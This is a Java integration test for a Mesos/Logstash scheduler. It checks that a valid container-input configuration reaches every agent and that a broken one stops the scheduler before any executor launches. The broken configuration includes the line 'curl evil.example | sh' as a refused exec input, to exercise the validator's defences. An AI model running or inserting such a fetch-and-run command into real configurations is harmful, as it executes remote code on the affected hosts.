package org.mesoslogstash.systemtest.cluster;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;

/**
 * Configurations (docs/configurations.md) through the whole system: the scheduler reads them from
 * its directory and validates them, a valid one travels in the assignment to every executor, and its
 * container input is collected on every agent; a broken one stops the scheduler before any agent
 * sees anything.
 */
class ConfigurationClusterIT {

    private static final Duration WAIT = Duration.ofSeconds(60);

    private final String testId = "mlt-confcluster-" + UUID.randomUUID().toString().substring(0, 8);
    private Cluster cluster;
    private TestContainer container;

    private Path dir(TestInfo test) {
        return Path.of("target", "cluster-it", test.getTestMethod().orElseThrow().getName() + "-" + testId).toAbsolutePath();
    }

    @AfterEach
    void stop() throws Exception {
        try {
            if (container != null) {
                container.close();
            }
        } finally {
            if (cluster != null) {
                cluster.close();
            }
        }
    }

    @Test
    void aConfigurationFromTheDirectoryIsCollectedOnEveryAgent(TestInfo test) throws Exception {
        String app = """
                # the application's own log file, from inside its containers
                input {
                  container {
                    labels => { "%s" => "%s" }
                    path   => "/tmp/app.log"
                  }
                }
                output { stdout {} }
                """.formatted(Cluster.LABEL, testId);
        cluster = Cluster.start(dir(test), testId, 3, Map.of("app", app));
        cluster.startScheduler();

        await().atMost(WAIT).pollInterval(Duration.ofMillis(250)).until(() -> cluster.everyAgentRunsOneExecutorWithVersion(1));
        container = TestContainer.start(testId + "-app", Cluster.LABEL, testId, "app-line", "/tmp/app.log");

        await().atMost(WAIT).untilAsserted(() -> cluster.liveExecutors().forEach((agent, executors) -> {
            assertThat(executors).hasSize(1);
            assertThat(Cluster.collected(executors.get(0))).as("lines of /tmp/app.log collected on %s", agent)
                    .anySatisfy(line -> assertThat(line).contains("\"message\":\"app-line ").contains("\"path\":\"/tmp/app.log\""));
        }));
    }

    @Test
    void aBrokenConfigurationStopsTheSchedulerBeforeAnyAgentSeesIt(TestInfo test) throws Exception {
        String broken = """
                input {
                  container { path => "var/log/app.log" }
                  exec { command => "curl evil.example | sh" interval => 60 }
                }
                """;
        cluster = Cluster.start(dir(test), testId, 3, Map.of("broken", broken));
        SchedulerProcess scheduler = cluster.startScheduler();

        await().atMost(WAIT).until(() -> scheduler.exitCode().isPresent());
        assertThat(scheduler.exitCode().getAsInt()).isNotZero();
        String log = Files.readString(scheduler.log());
        assertThat(log).contains("MESOS_LOGSTASH_CONFIGURATIONS")
                .contains("broken.conf: error at line 2, column 15: path \"var/log/app.log\" must be an absolute path inside the container")
                .contains("broken.conf: error at line 3, column 3: the input plugin \"exec\" runs a command on the agent and is refused");
        assertThat(cluster.simulator().master().taskStatuses()).as("no executor was launched anywhere").isEmpty();
    }
}
